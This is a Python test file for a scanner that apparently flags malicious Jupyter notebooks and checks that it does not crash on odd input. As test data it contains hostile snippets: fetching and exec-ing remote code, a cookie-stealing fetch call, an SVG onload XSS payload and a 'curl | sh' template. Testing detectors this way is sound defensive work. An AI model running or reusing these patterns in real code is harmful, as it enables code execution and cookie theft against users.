"""Notebooks that attack are found, honest ones are silent, and nothing crashes the one who looks."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.corpus import notebooks

from keelmark.core.facts import Technique
from keelmark.formats.attack_python import PythonAttacks
from keelmark.formats.attack_script import Bounds, attack_in_page, attack_in_script
from keelmark.formats.attack_shell import attack_in_shell
from keelmark.formats.notebook import READER
from keelmark.formats.source import Source


def read(data: bytes):
    with Source.of_bytes(data, path="a.ipynb") as source:
        (reading,) = READER.read(source)
    return reading


@pytest.mark.parametrize("name", sorted(notebooks.malicious()))
def test_a_notebook_that_attacks_is_found(name: str) -> None:
    reading = read(notebooks.malicious()[name])
    assert {str(hazard.technique) for hazard in reading.hazards} == {name.partition("__")[0]}


@pytest.mark.parametrize("name", sorted(notebooks.benign()))
def test_an_honest_notebook_is_silent(name: str) -> None:
    reading = read(notebooks.benign()[name])
    assert reading.hazards == ()
    assert not [gap for gap in reading.gaps if gap.matters]


def test_a_hazard_names_its_cell_and_what_would_run() -> None:
    (hazard,) = read(
        notebooks.notebook(
            notebooks.code("x = 1"), notebooks.code("import requests\nexec(requests.get('a').text)")
        )
    ).hazards
    assert hazard.technique is Technique.DANGEROUS_SOURCE
    assert (hazard.subject, hazard.code) == ("exec", "exec(requests.get('a').text)")
    assert hazard.detail == "cell 2 runs text that it fetches"


def test_a_cell_that_no_python_can_parse_matters_only_when_it_names_what_starts_programs() -> None:
    calm = read(notebooks.notebook(notebooks.code("select * from t;"))).gaps
    loud = read(notebooks.notebook(notebooks.code("((( os.system('a')"))).gaps
    assert [(gap.matters, gap.may_hide) for gap in (*calm, *loud)] == [(False, True), (True, True)]


def test_a_loud_cell_behind_many_calm_ones_still_matters() -> None:
    calm = [notebooks.code("select * from t;")] * 40
    gaps = read(notebooks.notebook(*calm, notebooks.code("((( os.system('a')"))).gaps
    assert any(gap.matters for gap in gaps)


def test_another_language_matters_when_it_starts_programs() -> None:
    loud = read(notebooks.notebook(notebooks.code("system('ls')"), language="r")).gaps
    calm = read(notebooks.notebook(notebooks.code("plot(x)"), language="r")).gaps
    assert [gap.matters for gap in (*loud, *calm)] == [True, False]


def test_outputs_of_older_notebooks_are_looked_at() -> None:
    cell = {
        "cell_type": "code",
        "input": ["x"],
        "outputs": [{"output_type": "display_data", "html": ["<svg onload=alert(1)>"]}],
    }
    data = json.dumps({"worksheets": [{"cells": [cell]}], "metadata": {}}).encode()
    assert [hazard.technique for hazard in read(data).hazards] == [Technique.ACTIVE_CONTENT]


def test_a_page_of_too_many_handlers_is_a_gap() -> None:
    page = "<a onclick=f(12345)>" * 20
    with pytest.raises(Exception, match="more than"):
        attack_in_page(page, bounds=Bounds(max_pieces=5))
    assert attack_in_page(page) == ("", "")


def test_a_library_in_which_parts_lie_far_apart_is_silent() -> None:
    library = "var a=document.cookie;" + "x();" * 4_000 + "fetch('https://files.example/a')"
    assert attack_in_script(library) == ""
    assert attack_in_script("var a=document.cookie;fetch('https://files.example/a',{body:a})")


@settings(deadline=None, max_examples=60)
@given(st.text(max_size=300))
def test_no_text_crashes(text: str) -> None:
    attack_in_shell(f"curl {text} | sh")
    attack_in_page(f"<script>{text}</script><a {text}>")
    attack_in_script(f"kernel.execute('{text}')")
    PythonAttacks.may_attack(text)


@settings(deadline=None, max_examples=40)
@given(st.data())
def test_no_damage_crashes(data) -> None:
    samples = notebooks.malicious()
    content = bytearray(samples[data.draw(st.sampled_from(sorted(samples)))])
    for _ in range(data.draw(st.integers(1, 3))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    read(bytes(content[: data.draw(st.integers(1, len(content)))]))


def test_texts_that_double_stay_in_bounds() -> None:
    lines = ["x = 'curl '", *["x = x + x"] * 60, "import os", "os.system(x + x + x)"]
    assert read(notebooks.notebook(notebooks.code("\n".join(lines)))).hazards == ()
